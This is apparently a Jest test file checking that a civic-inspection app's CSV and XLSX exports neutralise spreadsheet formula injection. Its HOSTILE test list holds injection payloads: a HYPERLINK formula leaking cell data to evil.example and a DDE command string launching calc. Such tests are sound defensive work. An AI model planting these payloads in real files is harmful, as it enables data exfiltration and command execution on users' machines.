// Text people typed (a unit, an indicator, a criterion) that starts with = + - @ must never become a formula
// in a file we export: not in the catalog's .xlsx or .csv, not in the monthly report's or 属地上报's workbook. In .xlsx,
// exceljs writes strings as strings (no <f> element anywhere); in CSV, csvField puts an apostrophe in front,
// and reading it back removes it, so the catalog still round-trips unchanged.
import JSZip from 'jszip';
import { buildMonthlyReport } from '../../src/monthly-report/monthly-report.builder';
import { monthlyReportXlsx } from '../../src/monthly-report/monthly-report.export';
import { catalogCsv, catalogXlsx } from '../../src/catalog/catalog.export';
import { parseCatalogCsv, parseCatalogXlsx } from '../../src/catalog/catalog.parser';
import type { Catalog } from '../../src/catalog/catalog.types';
import { diffCatalog, planCatalog } from '../../src/catalog/catalog.validator';
import { csvField, tokenizeCsv } from '../../src/platform/spreadsheet';
import { initialState } from '../../workflows/indicator-task/indicator-task.evolve';
import { countsByUnit, localReportsXlsx } from '../../src/local-report/local-report.export';
import type { ItemView } from '../../src/rectification-item/rectification-item.repository';

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)', '\t=1+1', '=1+1'];

function hostileCatalog(): Catalog {
  return {
    items: [{ code: 'A', name: HOSTILE[0] }],
    indicators: [
      {
        code: 'A1',
        itemCode: 'A',
        name: HOSTILE[1],
        method: 'FIELD',
        points: 2,
        standard: `${HOSTILE[2]}\n${HOSTILE[5]}`,
        area: null,
        criteria: [
          { code: 'A1-1', position: 1, content: HOSTILE[2], method: 'FIELD', points: 1, deductionRule: HOSTILE[3] },
          { code: 'A1-2', position: 2, content: HOSTILE[5], method: 'FIELD', points: 1, deductionRule: '' },
        ],
        materials: [{ code: 'A1-M1', position: 1, name: '@台账' }],
      },
    ],
  };
}

/** Every worksheet's XML in an .xlsx. */
async function sheetsXml(file: Buffer): Promise<string> {
  const zip = await JSZip.loadAsync(file);
  const sheets = Object.values(zip.files).filter((f) => /^xl\/worksheets\/[^/]+\.xml$/.test(f.name));
  expect(sheets.length).toBeGreaterThan(0);
  return (await Promise.all(sheets.map((f) => f.async('string')))).join('\n');
}

describe('csvField', () => {
  it.each(HOSTILE)('writes %j with an apostrophe in front, and reading takes it off again', (text) => {
    const field = csvField(text);
    const tokens = tokenizeCsv(`${field}\r\n`);
    expect(tokens).toEqual({ ok: true, records: [[text]] });
    // What Excel sees, unquoted, starts with the apostrophe: text, not a formula.
    const unquoted = field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field;
    expect(unquoted.startsWith("'")).toBe(true);
  });

  it('leaves other text alone, and an apostrophe people typed before ordinary text stays', () => {
    expect(csvField('外滩社区')).toBe('外滩社区');
    expect(csvField("'外滩")).toBe("'外滩");
    expect(tokenizeCsv("'外滩,'=x\r\n")).toEqual({ ok: true, records: [["'外滩", '=x']] });
  });
});

describe('the catalog export', () => {
  it('.csv: no field Excel would run as a formula, and the file imports back unchanged', () => {
    const csv = catalogCsv(hostileCatalog(), '测评体系');
    const tokens = tokenizeCsv(csv.replace(/^\uFEFF/, ''));
    if (!tokens.ok) throw new Error('unreadable');
    const raw = csv.replace(/^\uFEFF/, '').split('\r\n');
    for (const line of raw) expect(line).not.toMatch(/(^|,)"?[=+\-@]/);
    const parsed = parseCatalogCsv(csv);
    expect(parsed.problems).toEqual([]);
    const planned = planCatalog(parsed.rows, { current: hostileCatalog(), indicatorsInUse: new Map() });
    expect(planned.problems).toEqual([]);
    const { counts } = diffCatalog(hostileCatalog(), planned.catalog);
    expect([counts.items.unchanged, counts.indicators.unchanged]).toEqual([1, 1]);
  });

  it('.xlsx: the texts are strings, never formulas, and the file imports back unchanged', async () => {
    const file = await catalogXlsx(hostileCatalog(), '测评体系');
    const xml = await sheetsXml(file);
    expect(xml).not.toMatch(/<f[ >]/);
    const parsed = await parseCatalogXlsx(file);
    expect(parsed.problems).toEqual([]);
    expect(parsed.rows[0]).toMatchObject({ itemName: HOSTILE[0], indicatorName: HOSTILE[1], content: HOSTILE[2], deductionRule: HOSTILE[3] });
  });
});

describe('the monthly report export', () => {
  it('unit and indicator names that look like formulas stay strings', async () => {
    const FUTURE = '2027-03-31T15:59:59.000Z';
    const state = { ...initialState({ taskId: 'A1', campaignId: 'c1', indicatorCode: 'A1', unitCode: 'EVIL', leadUnitCode: 'XCB', dueAt: FUTURE }), stageDueAt: FUTURE };
    const report = buildMonthlyReport({
      campaign: { id: 'c1', name: HOSTILE[0], inspectionDate: '2027-06-30', timeZone: 'Asia/Shanghai' },
      month: '2026-10',
      period: { from: '2026-09-30T16:00:00.000Z', to: '2026-10-31T16:00:00.000Z' },
      generatedAt: '2026-11-27T04:00:00.000Z',
      clock: null,
      cadence: null,
      cards: [{ taskId: 'A1', indicatorCode: 'A1', indicatorName: HOSTILE[1], itemCode: 'A', itemName: HOSTILE[3], unitCode: 'EVIL', unitName: HOSTILE[2], state }],
      units: [{ code: 'EVIL', name: HOSTILE[2] }],
      items: [],
      events: [],
      areaLabels: {},
    });
    const xml = await sheetsXml(await monthlyReportXlsx(report));
    expect(xml).not.toMatch(/<f[ >]/);
  });
});

describe('the 属地上报 export', () => {
  const item = (id: string, state: string, reportingUnitCode: string, text: string) =>
    ({
      id,
      state,
      reportingUnitCode,
      area: 'SANITATION',
      location: { address: text, latitude: null, longitude: null },
      description: text,
      unitCode: state === 'REPORTED' ? null : 'HWS',
      dueAt: state === 'REPORTED' ? null : '2026-12-10T02:00:00.000Z',
      duplicateReports: 0,
      reportedBy: 'user:wtsq.member',
      createdAt: '2026-12-01T01:30:00.000Z',
    }) as unknown as ItemView;

  it('descriptions, addresses and names that look like formulas stay strings; the counts add up per unit', async () => {
    const reports = HOSTILE.map((text, i) => item(`item-${i}`, ['REPORTED', 'DISPATCHED', 'CLOSED'][i % 3], i % 2 ? 'WTSQ' : 'DHC', text));
    const units = countsByUnit(reports, [{ code: 'BJSQ', name: '滨江社区' }, { code: 'WTSQ', name: HOSTILE[0] }], (code) => (code === 'DHC' ? HOSTILE[1] : code));
    expect(units.map((u) => [u.name, u.reported, u.dispatched, u.closed, u.waiting])).toEqual([
      ['滨江社区', 0, 0, 0, 0],
      [HOSTILE[0], 3, 2, 1, 1],
      [HOSTILE[1], 3, 2, 1, 1],
    ]);
    const file = await localReportsXlsx({ heading: HOSTILE[5], scope: HOSTILE[4], timeZone: 'Asia/Shanghai', reports, units, unitName: () => HOSTILE[2], personName: () => HOSTILE[3] });
    const xml = await sheetsXml(file);
    expect(xml).not.toMatch(/<f[ >]/);
  });
});
